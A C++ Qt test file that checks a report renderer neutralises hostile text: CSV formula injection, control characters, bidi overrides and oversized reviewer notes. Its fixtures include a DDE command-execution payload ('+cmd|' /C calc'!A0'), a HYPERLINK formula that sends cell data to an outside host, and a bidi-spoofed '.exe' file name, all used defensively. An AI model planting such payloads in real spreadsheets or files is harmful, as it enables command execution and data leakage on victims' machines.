// Hostile text in a review report: the CSV writes formula-like text as text and numbers as
// numbers, the HTML shows NUL and other controls as U+FFFD and bidi overrides as visible markers,
// and a huge reviewer note shows as a bounded prefix with a marker of what was left out.
#include <QtTest>

#include <string>

#include "engine/core/text.h"
#include "engine/report/report_html_util.h"
#include "engine/report/report_render.h"

using namespace hs;
using namespace hs::report;

namespace {

// One case whose question, SQL, finding and annotations come from a hostile source.
ReportInput hostile(const std::string& note, const std::string& spanNote) {
  ReportInput in;
  in.runName = "run";
  ReportCase a;
  a.kase.id = "dev:1";
  a.kase.dbId = "db";
  a.kase.question = "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")";
  a.kase.goldSql = "SELECT 1";
  a.kase.predSql = "SELECT name FROM t";
  eval::CaseOutcome o;
  o.exSet = false;
  o.softF1 = 0.25;
  o.risk = Risk{-0.5, {}, {}};
  o.findings.push_back({"mrsqlgen", "C5", "", "+cmd|' /C calc'!A0", {{"pred", 7, 11}}, "rule", 1.0, ""});
  a.outcome = o;
  a.annotations.push_back({"@ana", "confirmed", "mrsqlgen", "C5", note, "2026-11-23T10:00:00Z", {}});
  a.annotations.push_back(
      {"ana", "added", "mrsqlgen", "C1", spanNote, "2026-11-23T10:00:01Z", FindingSpan{"pred", 7, 11}});
  in.cases = {a};
  return in;
}

}  // namespace

class TestReportHostile : public QObject {
  Q_OBJECT
 private slots:
  void csvNeutralisesFormulasButKeepsNumbers() {
    const std::string csv = renderCsv(hostile("-1+1", "x"));
    QVERIFY2(csv.find(",\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\",") != std::string::npos,
             csv.c_str());
    QVERIFY(csv.find(",\"'+cmd|' /C calc'!A0\",") != std::string::npos);  // finding message
    QVERIFY(csv.find(",\"'@ana\",") != std::string::npos);                // reviewer
    QVERIFY(csv.find(",\"'-1+1\",") != std::string::npos);                // note
    QVERIFY(csv.find(",-0.5,") != std::string::npos);                     // the risk score: a number
    QVERIFY(csv.find(",0.25,") != std::string::npos);
    // No cell starts with a formula character.
    for (const char* bad : {",=", ",+", ",@", ",-1", "\n=", "\n+", "\n@", "\n-"})
      QVERIFY2(csv.find(bad) == std::string::npos, bad);
  }

  void escapeReplacesControlsAndShowsBidiOverrides() {
    QCOMPARE(htmlEscape(std::string("a\0b", 3)), std::string("a\xEF\xBF\xBD"
                                                             "b"));
    QCOMPARE(htmlEscape("a\x01\x1b\x7f"
                        "b"),
             std::string("a\xEF\xBF\xBD\xEF\xBF\xBD\xEF\xBF\xBD"
                         "b"));
    QCOMPARE(htmlEscape("t\tl\nc\r"), std::string("t\tl\nc\r"));
    QCOMPARE(htmlEscape("abc\u202Egnp.exe"), std::string("abc&lt;U+202E&gt;gnp.exe"));
    QCOMPARE(
        htmlEscape("\u202A\u202B\u202C\u202D\u2066\u2067\u2068\u2069"),
        std::string("&lt;U+202A&gt;&lt;U+202B&gt;&lt;U+202C&gt;&lt;U+202D&gt;&lt;U+2066&gt;&lt;U+2067&gt;"
                    "&lt;U+2068&gt;&lt;U+2069&gt;"));
    QCOMPARE(htmlEscape("\xC2\x85"), std::string("\xEF\xBF\xBD"));  // C1 control NEL
    QCOMPARE(htmlEscape("\xFF"
                        "a"),
             std::string("\xEF\xBF\xBD"
                         "a"));  // invalid UTF-8
    QCOMPARE(htmlEscape("é 中 😀 <&>"), std::string("é 中 😀 &lt;&amp;&gt;"));
  }

  void htmlCarriesNoNulOrBidiControl() {
    ReportInput in = hostile(std::string("before\0after", 12), "abc\u202Egnp.exe");
    in.cases[0].kase.question = "q\u2067evil\u2069 \x01";
    in.cases[0].annotations[0].reviewer = "r\u202Dx";
    const std::string html = renderHtml(in).value();
    QVERIFY(html.find('\0') == std::string::npos);
    for (char c : html) QVERIFY(static_cast<unsigned char>(c) >= 0x20 || c == '\n' || c == '\t' || c == '\r');
    for (const char* control :
         {"\u202A", "\u202B", "\u202C", "\u202D", "\u202E", "\u2066", "\u2067", "\u2068", "\u2069"})
      QVERIFY(html.find(control) == std::string::npos);
    QVERIFY(html.find("before\xEF\xBF\xBD"
                      "after") != std::string::npos);  // the note is not cut at NUL
    // The span note: in the finding list and in the mark's title attribute.
    QVERIFY(html.find("<li><span class=\"tag") != std::string::npos);
    QVERIFY(html.find("abc&lt;U+202E&gt;gnp.exe</li>") != std::string::npos);
    QVERIFY(html.find("abc&lt;U+202E&gt;gnp.exe\">") != std::string::npos);
    QVERIFY(html.find("q&lt;U+2067&gt;evil&lt;U+2069&gt; \xEF\xBF\xBD") != std::string::npos);
    QVERIFY(html.find("r&lt;U+202D&gt;x") != std::string::npos);
    QVERIFY(!firstInvalidUtf8(html));
  }

  void hugeNoteShowsABoundedPrefix() {
    // 10 MB of two-byte characters, as an old workspace may hold: cut at a character boundary.
    std::string note;
    for (int i = 0; i < 5 * 1024 * 1024; ++i) note += "\xC3\xA9";  // é
    const std::string html = renderHtml(hostile(note, note)).value();
    QVERIFY2(html.size() < 64 * 1024, std::to_string(html.size()).c_str());
    QVERIFY(!firstInvalidUtf8(html));
    const std::string shown = shownNote(note, Language::English);
    QVERIFY(shown.size() <= kReportNoteBytes + 200);
    QVERIFY2(shown.find(" … [Bytes of this note not shown (see the CSV / JSON Lines data): " +
                        std::to_string(note.size() - kReportNoteBytes) + "]") != std::string::npos,
             shown.substr(kReportNoteBytes - 10).c_str());
    QVERIFY(html.find("Bytes of this note not shown (see the CSV / JSON Lines data): ") != std::string::npos);
    // Odd byte budget: the cut backs off to the start of the character.
    const std::string odd = "a" + note;
    const std::string shownOdd = shownNote(odd, Language::SimplifiedChinese);
    QVERIFY(!firstInvalidUtf8(shownOdd));
    QVERIFY(shownOdd.find("此备注未显示的字节数") != std::string::npos);
    QCOMPARE(shownNote("short", Language::English), std::string("short"));
    // The data files keep the note whole.
    QVERIFY(renderCsv(hostile(note, "x")).find(note) != std::string::npos);
  }
};

QTEST_GUILESS_MAIN(TestReportHostile)
#include "test_report_hostile.moc"
